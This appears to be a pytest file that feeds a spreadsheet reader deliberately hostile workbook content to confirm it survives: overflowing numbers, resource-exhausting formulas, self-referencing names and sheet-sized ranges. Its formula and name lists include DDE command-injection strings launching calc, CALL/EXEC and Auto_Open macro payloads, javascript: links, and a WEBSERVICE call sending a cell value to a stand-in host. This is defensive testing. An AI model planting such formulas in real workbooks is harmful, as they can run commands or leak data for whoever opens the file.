"""Numbers, formulas, names and texts made to hurt, in cells of any workbook."""

from __future__ import annotations

import json
from html import escape

import pytest

from tests.hostile.attack import COMMANDS, JSON, read, tried
from tests.xlsx.books import one_sheet, sheet_xml, table_xml, workbook

pytestmark = pytest.mark.slow

NUMBERS = ("NaN", "INF", "-INF", "1E400", "-1E400", "1E-400", "9" * 400, "0." + "9" * 400, "1,5",
           "0x10", "1_000", " 1 ", "", "١٢", "+1", "--1", ".", "1e", "1E+", "true", "-1",
           "2958466", "1E10", "9" * 30_000, "1d5", "½")  # fmt: skip
KINDS = ("n", "b", "e", "d", "str", "ukjent")


def cell(value: str, kind: str = "n", formula: str = "", ref: str = "A1") -> str:
    f = f"<f>{escape(formula)}</f>" if formula else ""
    return f'<c r="{ref}" t="{kind}">{f}<v>{value}</v></c>'


@pytest.mark.parametrize("number", NUMBERS, ids=lambda n: n[:12])
def test_a_number_that_is_none_is_told_of_or_read(number, tmp_path):
    cells = (
        cell(number)
        + cell("1", formula="A1+1", ref="B1")
        + cell("1", formula='TEXT(A1,"0")', ref="C1")
    )
    for answer in tried(tmp_path, one_sheet(f'<row r="1">{cells}</row>')):
        if answer.out.startswith("{"):
            json.loads(answer.out, parse_constant=lambda word: pytest.fail(word))


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("value", ["2", "#REF!&lt;script&gt;", "9999-99-99", "0000-00-00T99:99"])
def test_a_value_of_another_kind_than_it_says(kind, value, tmp_path):
    tried(tmp_path, one_sheet(f'<row r="1">{cell(value, kind)}</row>'))


FORMULAS = {
    "REPT": 'REPT("x",1E9)',
    "REPT of REPT": 'REPT(REPT("x",32767),32767)',
    "LEN of REPT": "LEN(REPT(\"abc\",30000)&REPT(\"abc\",30000))",
    "columns by columns": "SUMPRODUCT(A:XFD*A:XFD)",
    "whole sheet": "SUM(1:1048576)",
    "an array of the whole sheet": "A1:XFD1048576",
    "SEQUENCE": "SUM(SEQUENCE(1048576,16384))",
    "MAKEARRAY": "SUM(MAKEARRAY(100000,1000,LAMBDA(a,b,a*b)))",
    "RANDARRAY": "SUM(RANDARRAY(1048576,1000))",
    "MUNIT": "SUM(MUNIT(50000))",
    "MMULT": "SUM(MMULT(A1:XFD16384,A1:XFD16384))",
    "TEXTJOIN": 'TEXTJOIN("x",FALSE,A:XFD)',
    "CONCAT": "CONCAT(A:XFD)",
    "recursion": "LET(f,LAMBDA(g,g(g)),f(f))",
    "REDUCE": 'REDUCE("x",SEQUENCE(60),LAMBDA(a,b,a&a))',
    "64 within": "IF(1," * 64 + "1" + ",0)" * 64,
    "65 within": "IF(1," * 65 + "1" + ",0)" * 65,
    "4000 parentheses": "(" * 4_000 + "1" + ")" * 4_000,
    "4000 open ones": "(" * 4_000,
    "4000 closed ones": ")" * 4_000,
    "4000 minus signs": "-" * 4_000 + "1",
    "4000 percent signs": "1" + "%" * 4_000,
    "4000 braces": "{" * 4_000,
    "4000 brackets": "a" + "[" * 4_000,
    "4000 quotes": '"' * 4_001,
    "4000 apostrophes": "'" * 4_001,
    "4000 commas": f"SUM({',' * 4_000})",
    "an array of 4000": f"SUM({{{','.join('1' * 4_000)}}})",
    "an array of 2000 rows": f"SUM({{{';'.join('1' * 2_000)}}})",
    "an uneven array": "SUM({1,2;3})",
    "8193 characters": "1" + "+1" * 4_096,
    "30 000 characters": "1" + "+1" * 15_000,
    "a power": "9^9^9^9^9",
    "a factorial": "FACT(1E9)",
    "combinations": "COMBIN(1E9,5E8)",
    "a base": 'BASE(1E15,2,255)&DECIMAL(REPT("Z",255),36)',
    "a format of 5000": f'TEXT(1,"{"0" * 5_000}")',
    "a format of brackets": f'TEXT(1,"{"[" * 2_000}")',
    "dates": "EDATE(2958465,1E300)+DATE(1E300,1,1)+WORKDAY(1,1E15)+NETWORKDAYS(1,2958465,A:A)",
    "a search with stars": 'SEARCH("*a*a*a*a*a*a*a*b",REPT("a",30000))',
    "COUNTIF with stars": 'COUNTIF(A:A,"*?*?*?*?*?*?*?*b")',
    "SUBSTITUTE that grows": 'SUBSTITUTE(REPT("a",30000),"a",REPT("b",30000))',
    "itself": "A1+1",
    "a ring": "B1",
    "OFFSET on itself": "OFFSET(A1,0,0,1048576,16384)",
    "INDIRECT on itself": 'INDIRECT("A1")',
    "a command": "cmd|'/C calc'!A0",
    "MSEXCEL": "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "WEBSERVICE": 'WEBSERVICE("http://example.invalid/"&A1)',
    "HYPERLINK": 'HYPERLINK("javascript:alert(1)","x")',
    "IMAGE": 'IMAGE("http://example.invalid/a.png")',
    "RTD": 'RTD("x.y",,"z")',
    "CALL": 'CALL("kernel32","WinExec","JCJ","calc",5)',
    "EXEC": 'EXEC("calc")',
    "another workbook": "'[http://example.invalid/a.xlsx]Ark'!A1",
    "a sheet that is not there": "Borte!A1",
    "a name that is not there": "Navn_som_ikke_finnes",
    "a function that is not there": "FINNES.IKKE(1)",
    "nothing": " ",
    "letters of no script": "\ufffe\uffff".encode("utf-8", "ignore").decode()[:0] + "\u202e1+1",
    "a NUL as Excel writes it": '"_x0000_"&"_x001B_[2J"',
}  # fmt: skip


@pytest.mark.parametrize("kind", FORMULAS)
def test_a_formula_that_would_eat_the_machine_is_left(kind, tmp_path):
    cells = cell("1", formula=FORMULAS[kind]) + cell("1", formula="A1", ref="B1")
    tried(tmp_path, one_sheet(f'<row r="1">{cells}</row>'))


def test_all_formulas_in_one_workbook(tmp_path):
    """One that the engines choke on may not take the others with it."""
    rows = "".join(
        f'<row r="{n}">{cell("1", formula=text, ref=f"A{n}")}</row>'
        for n, text in enumerate(FORMULAS.values(), start=1)
    )
    tried(tmp_path, one_sheet(rows))


NAMES = {
    "doubling": "".join(f'<definedName name="n{n}">n{n - 1}+n{n - 1}</definedName>'
                        for n in range(1, 40)) + '<definedName name="n0">1</definedName>',
    "in a ring": '<definedName name="n39">n1</definedName><definedName name="n1">n39</definedName>',
    "on itself": '<definedName name="n39">n39</definedName>',
    "a chain of 5000": "".join(f'<definedName name="n{n}">n{n + 1}</definedName>'
                               for n in range(5_000)),
    "twice": '<definedName name="n39">1</definedName><definedName name="N39">2</definedName>',
    "of another sheet's number": '<definedName name="n39" localSheetId="99">1</definedName>',
    "of sheet -1": '<definedName name="n39" localSheetId="-1">1</definedName>',
    "of 100 000 letters": f'<definedName name="{"n" * 100_000}">1</definedName>',
    "like a cell": '<definedName name="A1">1</definedName><definedName name="R1C1">1</definedName>',
    "without a name": "<definedName>1</definedName>",
    "with the whole sheet": '<definedName name="n39">Ark!$A$1:$XFD$1048576</definedName>',
    "with a LAMBDA that calls itself": '<definedName name="n39">LAMBDA(x,n39(x))(1)</definedName>',
    "that runs something": '<definedName name="Auto_Open" xlm="1" function="1">EXEC("calc")'
    "</definedName>",
}  # fmt: skip


@pytest.mark.parametrize("kind", NAMES)
def test_names_that_explode(kind, tmp_path):
    sheet = sheet_xml(f'<row r="1">{cell("1", formula="n39+n1")}</row>')
    names = f"<definedNames>{NAMES[kind]}</definedNames>"
    tried(tmp_path, workbook({"Ark": sheet}, names=names))


LETTERS = (" ", "\u00a0", "\n", "\t", "(", ")", "[", "]", "{", "}", "<", "&", "'", '"', "«", "-",
           ".", ",", ";", ":", "=", "+", "*", "/", "\\", "|", "_", "0", "9", "a", "å", "A1", "1 ",
           "1.", "1,", "kr ", "% ", "2026 ", "2025–", "{a}", "\u0301", "\u200b", "\U0001f600",
           "_x000A_", "§ 1 ", "a b", "http://", "@", "#REF!")  # fmt: skip


@pytest.mark.parametrize("letter", LETTERS, ids=ascii)
def test_a_cell_full_of_one_thing(letter, tmp_path):
    """In a cell, in a header and beside a number, as rules for any workbook look at them."""
    full = escape((letter * 32_767)[:32_766]) if letter != "&" else "&amp;" * 32_767
    text = f'<c r="A{{}}" t="str"><v>{full}x</v></c><c r="B{{}}"><v>1</v></c>'
    rows = "".join(f'<row r="{n}">{text.replace("{}", str(n))}</row>' for n in (1, 2))
    formula = cell("1", formula="SUM(B1:B2)", ref="B3")
    read(tmp_path, one_sheet(f'{rows}<row r="3">{formula}</row>'))


TABLES = {
    "of nothing": "", "of one cell": "A1", "of the whole sheet": "A1:XFD1048576",
    "upside down": "C3:A1", "out of the sheet": "A1:XFE1048577", "of words": "Ark!A1:B2",
}  # fmt: skip


@pytest.mark.parametrize("kind", TABLES)
def test_a_table_in_an_odd_place(kind, tmp_path):
    table = table_xml("tbl", TABLES[kind], {"a": None, "b": "tbl[[#This Row],[a]]"})
    parts = '<tableParts count="1"><tablePart r:id="rId1"/></tableParts>'
    sheet = sheet_xml('<row r="1"><c r="A1" t="str"><v>a</v></c></row>', after=parts)
    tried(tmp_path, workbook({"Ark": sheet}, tables={"Ark": [table]}))


RANGES = {
    "merged cells": '<mergeCells>{}</mergeCells>|<mergeCell ref="A1:XFD1048576"/>',
    "hidden columns": '<cols>{}</cols>|<col min="1" max="16384" hidden="1" width="9"/>',
    "columns backwards": '<cols>{}</cols>|<col min="16384" max="1" width="9"/>',
    "a validation": "<dataValidations>{}</dataValidations>|<dataValidation type=\"list\" "
    'sqref="A1:XFD1048576 A1:XFD1048576"><formula1>A:XFD</formula1></dataValidation>',
    "a validation of 3000 areas": "<dataValidations>{}</dataValidations>|"
    f'<dataValidation sqref="{"A1 " * 3_000}"/>',
    "colours": '{}|<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" '
    'priority="1"><formula>SUM(A:XFD)</formula></cfRule></conditionalFormatting>',
    "a filter": '{}|<autoFilter ref="A1:XFD1048576"/>',
    "links": '<hyperlinks>{}</hyperlinks>|<hyperlink ref="A1:XFD1048576" location="javascript:x"/>',
}  # fmt: skip


@pytest.mark.parametrize("kind", RANGES)
def test_a_range_as_large_as_the_sheet_costs_nothing(kind, tmp_path):
    frame, inside = RANGES[kind].split("|", 1)
    xml = frame.replace("{}", inside * 50)
    row = f'<row r="1">{cell("1", formula="B1+1")}</row>'
    before = xml if kind in ("hidden columns", "columns backwards") else ""
    tried(tmp_path, one_sheet(row, before=before, after="" if before else xml),
          commands=(*COMMANDS, JSON))  # fmt: skip
